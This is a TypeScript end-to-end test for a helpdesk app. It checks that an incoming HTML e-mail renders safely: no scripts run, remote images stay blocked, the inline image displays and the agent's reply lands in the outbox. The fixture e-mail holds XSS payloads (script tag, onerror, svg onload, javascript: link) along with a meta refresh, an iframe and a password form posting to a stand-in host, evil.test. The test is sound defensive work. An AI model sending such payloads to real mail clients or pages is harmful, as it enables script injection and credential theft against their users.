import { channels, messages, tickets } from "@helpdesk/db";
import { eq } from "drizzle-orm";
import { createTransport } from "nodemailer";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { artifactPath } from "../support/browser.ts";
import { startBrowserWorld } from "../support/e2e.ts";
import { eventually } from "../support/eventually.ts";

/**
 * A hostile HTML e-mail arrives over SMTP and an agent reads it in Chromium: nothing in it runs, remote
 * images stay blocked, the inline image shows; the agent answers and sees the reply kept in the outbox.
 */
let world: Awaited<ReturnType<typeof startBrowserWorld>>;

// A 1x1 PNG, attached inline and referenced by cid:.
const pixel = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
  "base64",
);

beforeAll(async () => {
  world = await startBrowserWorld({
    user: { email: "mail.agent@example.test", name: "Mia Agent", role: "admin", password: "e2e-password" },
  });
  await world.server.deps.db
    .insert(channels)
    .values({ id: "chn_e2e_email", kind: "email", name: "Support", address: "support@e2e.test" });
}, 120_000);

afterAll(() => world?.close());

describe("an HTML e-mail in the agent workspace", () => {
  test("renders safely: no script runs, remote images wait, the inline image shows; the reply goes to the outbox", async () => {
    const smtp = createTransport({ host: "127.0.0.1", port: world.server.smtpPort!, secure: false, ignoreTLS: true });
    await smtp.sendMail({
      from: '"Harriet Hacker" <harriet@customer.test>',
      to: "support@e2e.test",
      subject: "Styled invoice question",
      messageId: "<xss-1@customer.test>",
      text: "Hello, see the invoice.",
      html: `<html><head><style>body{display:none}</style><meta http-equiv="refresh" content="0;url=https://evil.test"></head><body>
        <p>Hello, <b>see the invoice</b> below.</p>
        <script>window.__pwned = "script"</script>
        <img src="x" onerror="window.__pwned = 'onerror'">
        <svg onload="window.__pwned = 'svg'"><circle r="5"/></svg>
        <a href="javascript:window.__pwned='link'" id="bad-link">Click me</a>
        <form action="https://evil.test/steal"><input name="password"><button>Log in</button></form>
        <iframe src="https://evil.test/frame"></iframe>
        <img src="https://tracker.evil.test/open.gif" alt="tracker">
        <img src="cid:logo@customer.test" alt="Our logo" id="inline-logo">
      </body></html>`,
      attachments: [{ filename: "logo.png", content: pixel, contentType: "image/png", cid: "logo@customer.test" }],
    });
    const ticketId = await eventually(async () => {
      const [row] = await world.server.deps.db
        .select({ id: messages.ticketId })
        .from(messages)
        .where(eq(messages.externalId, "xss-1@customer.test"));
      expect(row, "the mail's message").toBeDefined();
      return row!.id;
    });

    const page = await world.browser.newPage({ viewport: { width: 1440, height: 1000 } });
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const outsideRequests: string[] = [];
    page.on("request", (request) => {
      if (!request.url().startsWith(world.server.url) && !request.url().startsWith("data:"))
        outsideRequests.push(request.url());
    });
    await world.signIn(page, `/tickets/${ticketId}`);

    const message = page.locator("li.message.customer").first();
    const body = message.locator(".body");
    await eventually(async () => expect(await message.getByText("see the invoice").count()).toBe(1));
    await eventually(async () =>
      expect(await message.getByText("From Harriet Hacker <harriet@customer.test>").count()).toBe(1),
    );
    // The inline image is served by our API to the signed-in agent and displays.
    await eventually(async () =>
      expect(
        await message
          .locator("img[alt='Our logo']")
          .evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth),
      ).toBe(1),
    );
    expect(await message.locator("img[alt='Our logo']").getAttribute("src")).toMatch(/^\/api\/attachments\/att_/);
    // The tracker is held back until the agent asks for it.
    expect(await message.getByText("1 remote image was blocked").count()).toBe(1);
    expect(await message.locator("img[alt='tracker']").getAttribute("src")).toBeNull();
    // Nothing active survived sanitizing.
    expect(await body.locator("script, iframe, form, svg, [onerror], [onload]").count()).toBe(0);
    expect(await message.locator("a", { hasText: "Click me" }).getAttribute("href")).toBeNull();
    await message.locator("a", { hasText: "Click me" }).click();
    expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(outsideRequests).toEqual([]);

    await page.getByLabel("Reply to the customer").fill("Thanks Harriet, the invoice is correct.");
    await page.getByRole("button", { name: "Send reply" }).click();
    const reply = page.locator("li.message.agent", { hasText: "the invoice is correct" });
    await eventually(async () => expect(await reply.getByText("Kept in the local outbox").count()).toBe(1));
    await page.screenshot({ path: artifactPath("email-ticket.png"), fullPage: true });

    const [stored] = await world.server.deps.db.select().from(tickets).where(eq(tickets.id, ticketId!));
    expect(stored!.status).toBe("open");
    await page.close();
  });
});
